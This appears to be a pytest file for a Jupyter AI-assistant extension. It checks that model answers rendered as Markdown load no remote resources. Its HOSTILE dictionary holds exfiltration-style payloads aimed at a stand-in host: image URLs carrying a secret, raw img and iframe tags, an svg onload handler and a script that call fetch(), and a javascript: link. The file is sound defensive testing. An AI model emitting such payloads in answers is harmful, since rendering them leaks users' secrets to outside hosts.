"""One Markdown path for model answers: the ``%%assist`` card and the chat panel render an answer
the same way (markdown-it tokens + the allow-list sanitiser), so nothing in an answer loads a
remote resource with zero clicks on any surface.

The hostile cases are CommonMark facts the hand-written path this replaced got wrong: a line
starting with three backticks is not always a fence (indented four spaces it is an indented code
block; a backtick fence's info string may not hold a backtick), so after such a line the old
path stopped escaping and an image or raw ``<img>`` reached the front end's own Markdown renderer.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from _support.components import intent
from _support.display import html_of, shown
from markdown_it import MarkdownIt

HOSTILE = {
    "indented-fence": "Try this:\n\n    ```\n![](http://evil.test/a?k=secret)\n<img src=http://evil.test/b>\n",
    "backtick-in-info": "``` a`b\n![x](http://evil.test/a?k=secret)\n<img src=http://evil.test/b>\n",
    "plain": "![x](http://evil.test/a?k=secret) <img src=http://evil.test/b> <iframe src=http://evil.test/c>",
    "svg-and-script": '<svg onload="fetch(`http://evil.test/a`)"></svg><script>fetch("http://evil.test/b")</script>',
    "links": "[js](javascript:alert(1)) [rel](/api/contents) ![d](data:image/png;base64,AAAA) [ok](https://evil.test/ok)",
}


def _old_inert_markdown(text: str) -> str:
    """The hand-written path this replaced (``ui/render/markdown.py`` before issue 31), kept as the
    control: a line scan that took any line starting with three backticks for a fence."""
    out, fence = [], ""
    for line in text.split("\n"):
        stripped = line.lstrip()
        if fence:
            if stripped.startswith(fence):
                fence = ""
        elif stripped.startswith(("```", "~~~")):
            fence = stripped[:3]
        else:
            line = line.replace("<", "\\<").replace("![", "\\![")
        out.append(line)
    return "\n".join(out)


def _front_end(markdown: str) -> str:
    """What a front end's own Markdown renderer makes of ``text/markdown`` (JupyterLab's allows raw HTML)."""
    return MarkdownIt("commonmark", {"html": True}).render(markdown)


def _elements(html: str) -> list[tuple[str, dict[str, str]]]:
    """The elements a browser would build from ``html``, with their attributes."""
    found: list[tuple[str, dict[str, str]]] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, {k: v or "" for k, v in attrs}))

    Collect().feed(html)
    return found


def _loads_nothing(html: str) -> None:
    """No element that fetches, runs or frames anything; links only absolute http(s) or mailto."""
    elements = _elements(html)
    assert {"img", "script", "svg", "iframe", "object", "embed", "video", "audio", "style"}.isdisjoint(
        tag for tag, _ in elements
    )
    for tag, attrs in elements:
        assert not [a for a in attrs if a.startswith("on") or a in ("src", "srcset", "background", "poster")], tag
        if "href" in attrs:
            assert attrs["href"].startswith(("http://", "https://", "mailto:")), attrs
            assert attrs.get("rel") == "noopener noreferrer"


@pytest.mark.parametrize("case", ["indented-fence", "backtick-in-info"])
def test_control_the_old_path_let_the_image_through(case):
    """The control: these answers really do load a remote image where the old path's output was
    rendered, so the tests below would see the attack if the new path let it through."""
    loaded = [a.get("src", "") for tag, a in _elements(_front_end(_old_inert_markdown(HOSTILE[case]))) if tag == "img"]
    assert "http://evil.test/a?k=secret" in loaded
    assert [t for t, _ in _elements(_front_end(HOSTILE[case]))].count("img") >= 1  # and the raw answer too


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_an_assist_answer_loads_nothing_in_the_cell_card(ip, llm, case):
    llm.queue(intent("question"), HOSTILE[case])
    result = ip.run_cell_magic("assist", "", "show me an example")
    assert result.status == "complete" and result.kind == "answer" and result.result.strip() == HOSTILE[case].strip()
    bundle = shown(result, ip)
    assert "text/markdown" not in bundle  # no front end renders the answer but us
    _loads_nothing(bundle["text/html"])
    assert "evil.test" in bundle["text/html"]  # shown (as text or a link to click), not dropped


def test_the_panel_and_the_cell_render_an_answer_the_same_way(ip, llm, sandbox, tmp_path):
    from lfassist_jupyter.ui.panel import ChatPanel
    from lfassist_jupyter.ui.render.markdown import render_markdown
    from lfassist_jupyter.ui.workspace import Workspace

    answer = HOSTILE["indented-fence"] + "\n```python\nx = 1 < 2\n```\n"
    llm.queue(intent("question"), answer)
    cell = html_of(ip.run_cell_magic("assist", "", "show me an example"), ip)
    llm.queue(intent("question"), answer)
    panel = ChatPanel(workspace=Workspace(data_dir=tmp_path, local_validator=sandbox))
    panel.send_prompt("show me an example")
    panel.wait(60)
    in_panel = panel.messages[-1]["html"]
    assert in_panel == render_markdown(answer) and in_panel in cell  # one path, byte for byte
    _loads_nothing(in_panel)
    assert 'class="highlight"' in in_panel  # the code block is highlighted, as written
